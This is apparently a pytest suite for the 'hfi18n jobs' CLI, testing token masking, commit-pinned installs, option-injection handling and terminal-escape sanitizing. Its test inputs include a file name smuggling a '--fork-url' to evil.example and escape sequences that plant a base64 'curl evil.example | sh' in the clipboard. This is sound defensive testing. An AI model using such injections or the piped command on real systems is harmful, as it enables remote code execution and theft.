"""``hfi18n jobs``: the launcher against a loopback Jobs API (the real huggingface_hub client, through
``HF_ENDPOINT``), and the job's own worker run locally end to end with the loopback translator standing in
for vLLM, pushing to a bare fork. Secrets: the GitHub token reaches the Jobs API only in the ``secrets``
field; no output, log or commit carries it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import require
from tests.fakes.hf_jobs_server import FakeHfJobs
from tests.fakes.llm_server import FakeLLMServer
from tests.test_status_team import team  # noqa: F401  (fixture)

GH_SECRET = "ghp_jobs_secret_0123456789abcdefXYZ"
HF_TOKEN = "hf_jobs_test_token_abcdefghijklmnop"
PIN = "hfi18n @ git+https://github.com/acme/hfi18n.git@" + "0123456789abcdef" * 2 + "01234567"


def hfi18n(*args: str, env: dict[str, str], cwd: Path, stdin: str = "") -> subprocess.CompletedProcess[str]:
    full = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "HF_TOKEN", "HFI18N_CONFIG")}
    full.update({"PYTHONPATH": os.pathsep.join(p for p in sys.path if p.endswith("src")) or "src",
                 "HF_HUB_DISABLE_TELEMETRY": "1", "NO_COLOR": "1", **env})
    return subprocess.run([sys.executable, "-m", "hfi18n", *args], env=full, cwd=cwd, input=stdin,
                          capture_output=True, text=True, timeout=300)


@pytest.fixture()
def hub_env(team, tmp_path):  # noqa: F811
    require("huggingface_hub")
    (team.root / "hfi18n.toml").write_text('[github]\nupstream = "o/site"\n', encoding="utf-8")
    with FakeHfJobs(token=HF_TOKEN) as hub:
        env = {"HF_ENDPOINT": hub.url, "HF_TOKEN": HF_TOKEN, "GITHUB_TOKEN": GH_SECRET, "HF_HOME": str(tmp_path / "hf")}
        yield hub, env


def test_run_estimates_asks_and_sends_the_token_only_as_a_secret(team, hub_env) -> None:  # noqa: F811
    hub, env = hub_env
    declined = hfi18n("jobs", "run", "--repo", str(team.root), "--lang", "ko", "--fork", "alice/site",
                      "--package", PIN, "pr_page.md", "claimed.md", env=env, cwd=team.root, stdin="n\n")
    assert declined.returncode == 1 and "not launched" in declined.stderr
    assert "2 docs into ko with Qwen/Qwen2.5-7B-Instruct on a10g-large" in declined.stderr
    assert "tokens in" in declined.stderr and "min" in declined.stderr and "$" in declined.stderr
    assert not [r for r in hub.requests if r.method == "POST"]  # nothing launched without a yes
    res = hfi18n("jobs", "run", "--repo", str(team.root), "--lang", "ko", "--fork", "alice/site", "--yes", "--json",
                 "--package", PIN, "pr_page.md", "claimed.md", env=env, cwd=team.root)
    assert res.returncode == 0, res.stderr
    launch = json.loads(res.stdout)
    job_id = launch["job_id"]
    spec = hub.specs[job_id]
    assert spec["secrets"] == {"GITHUB_TOKEN": GH_SECRET}
    rest = {k: v for k, v in spec.items() if k != "secrets"}
    assert GH_SECRET not in json.dumps(rest) and HF_TOKEN not in json.dumps(spec)
    cmd = spec["command"]
    assert cmd[:9] == ["uv", "run", "--with", PIN, "--with", "vllm", "hfi18n", "jobs", "worker"]
    assert cmd[cmd.index("--upstream-url") + 1] == "https://github.com/o/site.git"
    assert cmd[-3:] == ["--", "pr_page.md", "claimed.md"] and "https://github.com/alice/site.git" in cmd
    assert spec["flavor"] == "a10g-large" and spec["labels"]["app"] == "hfi18n"
    # the HF token only ever travels in the Authorization header
    for r in hub.requests:
        assert r.headers.get("authorization") == f"Bearer {HF_TOKEN}"
        assert HF_TOKEN not in json.dumps(r.body) and GH_SECRET not in r.path
    assert GH_SECRET not in res.stdout + res.stderr and HF_TOKEN not in res.stdout + res.stderr

    st = hfi18n("jobs", "status", job_id, env=env, cwd=team.root)
    assert st.returncode == 0 and f"{job_id}: RUNNING" in st.stdout
    hub.finish(job_id, logs=["pr_page.md: committed 0123456789", f"oops {GH_SECRET}"], stage="COMPLETED")
    st = hfi18n("jobs", "status", job_id, "--json", env=env, cwd=team.root)
    assert json.loads(st.stdout)["stage"] == "COMPLETED"
    logs = hfi18n("jobs", "logs", job_id, env=env, cwd=team.root)
    assert logs.returncode == 0 and "pr_page.md: committed 0123456789" in logs.stdout
    assert GH_SECRET not in logs.stdout and "oops ***" in logs.stdout  # a leaked line is masked on the way out


def test_unknown_model_needs_a_flavour(team, hub_env) -> None:  # noqa: F811
    hub, env = hub_env
    res = hfi18n("jobs", "run", "--repo", str(team.root), "--fork", "alice/site", "--model", "some/model", "--yes",
                 "--package", PIN, "pr_page.md", env=env, cwd=team.root)
    assert res.returncode == 2 and "pass --flavor" in res.stderr and not hub.specs


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(cwd), *args], capture_output=True, text=True, check=True).stdout


def test_worker_runs_locally_end_to_end_one_commit_per_doc(team, tmp_path) -> None:  # noqa: F811
    fork = tmp_path / "fork.git"
    git(tmp_path, "init", "-q", "--bare", str(fork))
    with FakeLLMServer(lang="ko") as llm:
        env = {"OPENAI_API_KEY": llm.api_key or "", "GITHUB_TOKEN": GH_SECRET,
               "GIT_AUTHOR_NAME": "job", "GIT_AUTHOR_EMAIL": "j@example.com",
               "GIT_COMMITTER_NAME": "job", "GIT_COMMITTER_EMAIL": "j@example.com"}
        res = hfi18n("jobs", "worker", "--upstream-url", str(team.root), "--fork-url", str(fork), "--lang", "ko",
                     "--model", "loopback", "--branch", "nightly-ko", "--base-url", llm.openai_base_url,
                     "--workdir", str(tmp_path / "work"), "pr_page.md", "claimed.md", env=env, cwd=tmp_path)
        assert res.returncode == 0, res.stdout + res.stderr
        assert llm.requests  # the loopback translator stood in for vLLM
    result = json.loads(res.stdout.strip().splitlines()[-1])
    assert [c[0] for c in result["commits"]] == ["pr_page.md", "claimed.md"] and result["pushed"]
    log = git(fork, "log", "--format=%H %s", "nightly-ko").splitlines()
    upstream_head = git(team.root, "rev-parse", "HEAD").strip()
    assert len(log) == 7 and git(fork, "rev-parse", "nightly-ko~2").strip() == upstream_head
    for (doc, sha), n in zip(result["commits"], (1, 0), strict=True):
        assert git(fork, "rev-parse", f"nightly-ko~{n}").strip() == sha
        files = git(fork, "show", "--name-only", "--format=", sha).split()
        # one doc per commit, with its review record (which text is machine), nothing else
        assert files == [f"docs/source/ko/_review/{doc}.json", f"docs/source/ko/{doc}"], files
        assert f"Translated `{doc}`" in git(fork, "log", "-1", "--format=%s", sha)
    everything = res.stdout + res.stderr + git(fork, "log", "-p", "nightly-ko")
    assert GH_SECRET not in everything and (llm.api_key or "x") not in res.stdout + res.stderr


# ---------------------------------------------------------------------------------------------- issue 33


def _checkout_of_this_code(tmp_path: Path, *, pushed: bool = True) -> tuple[Path, str]:
    """A git checkout holding this hfi18n's code, with an HTTPS remote whose tracking branch has its commit
    (``pushed``): what a user who cloned hfi18n and runs it from there has."""
    import shutil

    here = Path(__file__).resolve().parents[1]
    root = tmp_path / "hfi18n-checkout"
    shutil.copytree(here / "src" / "hfi18n", root / "src" / "hfi18n",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    shutil.copy(here / "pyproject.toml", root / "pyproject.toml")
    git(tmp_path, "init", "-q", "-b", "main", str(root))
    git(root, "add", "-A")
    git(root, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "hfi18n")
    git(root, "remote", "add", "origin", "https://ghp_in_the_url_0123456789@github.com/acme/hfi18n.git")
    if pushed:
        git(root, "update-ref", "refs/remotes/origin/main", "HEAD")
    return root, git(root, "rev-parse", "HEAD").strip()


def test_a_job_installs_exactly_this_code_pinned_by_commit_never_a_bare_name(team, hub_env, tmp_path) -> None:  # noqa: F811
    """Issue 33 item 1: hfi18n is not on the package index, so ``--with hfi18n`` ran whatever whoever registers
    the name publishes, next to the GitHub token. The job installs this checkout's commit from its remote."""
    hub, env = hub_env
    args = ("jobs", "run", "--repo", str(team.root), "--lang", "ko", "--fork", "alice/site", "--yes", "pr_page.md")
    for bare in ("hfi18n", "hfi18n==0.1.0", "git+https://github.com/acme/hfi18n@main",
                 "https://example.com/hfi18n-0.1.0-py3-none-any.whl"):
        res = hfi18n(*args, "--package", bare, env=env, cwd=team.root)
        assert res.returncode == 2 and "would not install exactly this code" in res.stderr, (bare, res.stderr)
    assert not hub.specs  # nothing launched

    root, commit = _checkout_of_this_code(tmp_path)
    from_checkout = {**env, "PYTHONPATH": str(root / "src")}
    res = hfi18n(*args, "--format", "json", env=from_checkout, cwd=team.root)
    assert res.returncode == 0, res.stderr
    pin = f"hfi18n @ git+https://github.com/acme/hfi18n.git@{commit}"
    assert f"the job installs {pin} (commit {commit[:10]} of {root}" in res.stderr  # the estimate says so
    cmd = hub.specs[json.loads(res.stdout)["job_id"]]["command"]
    assert cmd[:4] == ["uv", "run", "--with", pin] and "ghp_in_the_url" not in json.dumps(cmd)
    assert json.loads(res.stdout)["estimate"]["install"] == pin

    # code that is not the commit, or a commit the job cannot fetch, is refused before anything is launched
    with (root / "src" / "hfi18n" / "__init__.py").open("a", encoding="utf-8") as f:
        f.write("# changed here\n")
    res = hfi18n(*args, env=from_checkout, cwd=team.root)
    assert res.returncode == 2 and "uncommitted changes" in res.stderr and "src/hfi18n/__init__.py" in res.stderr
    git(root, "checkout", "--", ".")
    git(root, "update-ref", "-d", "refs/remotes/origin/main")
    res = hfi18n(*args, env=from_checkout, cwd=team.root)
    assert res.returncode == 2 and "on no remote the job can fetch" in res.stderr, res.stderr
    assert len(hub.specs) == 1


def test_a_doc_named_like_an_option_never_becomes_one(team, hub_env) -> None:  # noqa: F811
    """Issue 33 item 3: a file ``en/--fork-url=git@evil.example:loot.md`` became the worker's fork URL."""
    hub, env = hub_env
    evil = "--fork-url=git@evil.example:loot.md"
    team.commit("an upstream doc", {f"en/{evil}": "# Loot\n\nSome text to translate here.\n"}, author="Eve",
                day="2025-05-01")
    base = ("jobs", "run", "--repo", str(team.root), "--lang", "ko", "--fork", "alice/site", "--yes",
            "--package", PIN)
    named = hfi18n(*base, "--", evil, env=env, cwd=team.root)
    assert named.returncode == 2 and "starts with '-'" in named.stderr and not hub.specs
    picked = hfi18n(*base, "--next", "10", "--format", "json", env=env, cwd=team.root)
    assert picked.returncode == 0, picked.stderr
    assert f"left out (a name starting with '-' would be read as an option): {evil}" in picked.stderr
    cmd = hub.specs[json.loads(picked.stdout)["job_id"]]["command"]
    assert evil not in cmd and not any("evil.example" in c for c in cmd)
    assert cmd[cmd.index("--fork-url") + 1] == "https://github.com/alice/site.git"
    docs = cmd[cmd.index("--") + 1:]
    assert docs and all(not d.startswith("-") for d in docs)  # names only after `--`


def test_a_saved_login_token_is_masked_wherever_it_came_from(team, tmp_path) -> None:  # noqa: F811
    """Issue 33 item 2: with the token only in ``$HF_HOME/token`` (``hf auth login``), a Jobs API error quoting
    the Authorization header was printed in clear; a stored token a job printed was too."""
    require("huggingface_hub")
    home = tmp_path / "hf"
    home.mkdir()
    (home / "token").write_text(HF_TOKEN + "\n", encoding="utf-8")
    other = "hf_second_stored_token_ZYXWVUTSRQ"
    (home / "stored_tokens").write_text(f"[work]\nhf_token = {HF_TOKEN}\n\n[home]\nhf_token = {other}\n",
                                        encoding="utf-8")
    with FakeHfJobs(token=HF_TOKEN, quote_auth=True) as hub:
        env = {"HF_ENDPOINT": hub.url, "HF_HOME": str(home)}  # no HF_TOKEN in the environment
        res = hfi18n("jobs", "status", "nosuchjob", env=env, cwd=tmp_path)
        assert res.returncode == 2 and "Authorization: Bearer ***" in res.stderr, res.stderr
        assert HF_TOKEN not in res.stdout + res.stderr and "unexpected error" not in res.stderr
        assert [r.headers["authorization"] for r in hub.requests] == [f"Bearer {HF_TOKEN}"] * len(hub.requests)
        hub.jobs["job0001"] = {"id": "job0001", "createdAt": "2026-01-01T00:00:00Z", "status": {"stage": "RUNNING"},
                               "owner": {"id": "u1", "name": "alice", "type": "user"}, "flavor": "a10g-large"}
        hub.logs["job0001"] = [f"token={other}", f"Authorization: Bearer {HF_TOKEN}"]
        logs = hfi18n("jobs", "logs", "job0001", env=env, cwd=tmp_path)
    assert logs.returncode == 0, logs.stderr
    assert "token=***" in logs.stdout and "Bearer ***" in logs.stdout
    assert other not in logs.stdout and HF_TOKEN not in logs.stdout


def test_jobs_run_checks_the_tokens_before_asking(team, hub_env, tmp_path) -> None:  # noqa: F811
    """Issue 33 item 13: ``jobs run`` asked "Launch this job?" and only then found no token."""
    hub, env = hub_env
    args = ("jobs", "run", "--repo", str(team.root), "--fork", "alice/site", "--package", PIN, "pr_page.md")
    no_github = hfi18n(*args, env={k: v for k, v in env.items() if k != "GITHUB_TOKEN"}, cwd=team.root, stdin="y\n")
    assert no_github.returncode == 2 and "no GitHub token" in no_github.stderr
    assert "Launch this job?" not in no_github.stderr
    no_hf = hfi18n(*args, env={**{k: v for k, v in env.items() if k != "HF_TOKEN"}, "HF_HOME": str(tmp_path / "e")},
                   cwd=team.root, stdin="y\n")
    assert no_hf.returncode == 2 and "no Hugging Face token" in no_hf.stderr and "hf auth login" in no_hf.stderr
    assert "Launch this job?" not in no_hf.stderr and not hub.specs


def test_remote_logs_and_messages_never_drive_the_terminal(team, hub_env) -> None:  # noqa: F811
    """Issue 33 item 4: a job's log line could set the clipboard (OSC 52), the window title or clear the
    screen. What a terminal gets shows the escape instead; ``--format json`` keeps the exact text."""
    hub, env = hub_env
    res = hfi18n("jobs", "run", "--repo", str(team.root), "--fork", "alice/site", "--yes", "--package", PIN,
                 "--format", "json", "pr_page.md", env=env, cwd=team.root)
    job_id = json.loads(res.stdout)["job_id"]
    assert "experimental" not in res.stderr  # huggingface_hub's warning stays inside
    hostile = ["\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied", "\x1b]0;pwned\x07title", "\x1b[2J\x1b[Hclear",
               "\x9b31mc1 csi", "\u202eevil"]
    hub.finish(job_id, logs=hostile, stage="ERROR", message="\x1b]0;owned\x07 failed")
    logs = hfi18n("jobs", "logs", job_id, env=env, cwd=team.root)
    st = hfi18n("jobs", "status", job_id, env=env, cwd=team.root)
    for shown in (logs.stdout, st.stdout):
        assert not any(ch in shown for ch in "\x1b\x07\x9b\u202e"), repr(shown)
    assert "\\x1b]52;c;" in logs.stdout and "\\x1b[2J" in logs.stdout and "\\u202eevil" in logs.stdout
    assert f"{job_id}: ERROR (\\x1b]0;owned\\x07 failed)" in st.stdout
    exact = hfi18n("jobs", "logs", job_id, "--format", "json", env=env, cwd=team.root)
    assert [json.loads(x) for x in exact.stdout.splitlines()][-len(hostile):] == hostile
    alias = hfi18n("jobs", "status", job_id, "--json", env=env, cwd=team.root)  # the old spelling still works
    assert json.loads(alias.stdout)["message"] == "\x1b]0;owned\x07 failed"
